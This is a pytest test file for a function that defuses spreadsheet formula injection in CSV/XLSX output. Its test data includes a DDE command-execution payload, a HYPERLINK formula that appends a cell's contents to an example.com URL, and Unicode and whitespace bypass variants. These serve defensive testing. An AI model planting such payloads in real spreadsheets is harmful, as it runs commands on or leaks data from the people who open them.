import csv
import io
from datetime import date
from typing import Any

import pytest

from console.records.formulas import defused

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1,"look")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x00=1+1",
]


class TestDefused:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_makes_a_text_of_a_formula(self, text: str) -> None:
        assert defused(text).startswith("'")

    @pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\n=1+1", "\tplain"])
    def test_lets_no_cell_begin_with_the_end_of_one(self, text: str) -> None:
        assert defused(text) == f"'{text}"

    @pytest.mark.parametrize("text", ["", "NMNM 0501759", "B0-1234-5", "a=b", "'quoted", "Master Documents.pdf"])
    def test_leaves_other_text_as_it_is(self, text: str) -> None:
        assert defused(text) == text

    @pytest.mark.parametrize("value", [-5, 1.5, None, True, date(2026, 11, 21)])
    def test_leaves_what_is_no_text_as_it_is(self, value: Any) -> None:
        assert defused(value) is value

    def test_done_twice_is_done_once(self) -> None:
        assert defused(defused("=1+1")) == "'=1+1"

    @pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1f", "\ud800", "\uffff"])
    def test_replaces_what_no_xlsx_file_can_hold(self, char: str) -> None:
        assert defused(f"a{char}b") == "a\N{REPLACEMENT CHARACTER}b"

    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_cell_of_a_file_is_a_formula_whatever_stands_beside_it(self, text: str) -> None:
        row = [f'a",{text}', text, f"b\r\n{text}"]
        file = io.StringIO()
        csv.writer(file).writerow([defused(each) for each in row])

        (read,) = csv.reader(io.StringIO(file.getvalue(), newline=""))

        assert len(read) == 3
        assert [each[0] for each in read] == ["a", "'", "b"]
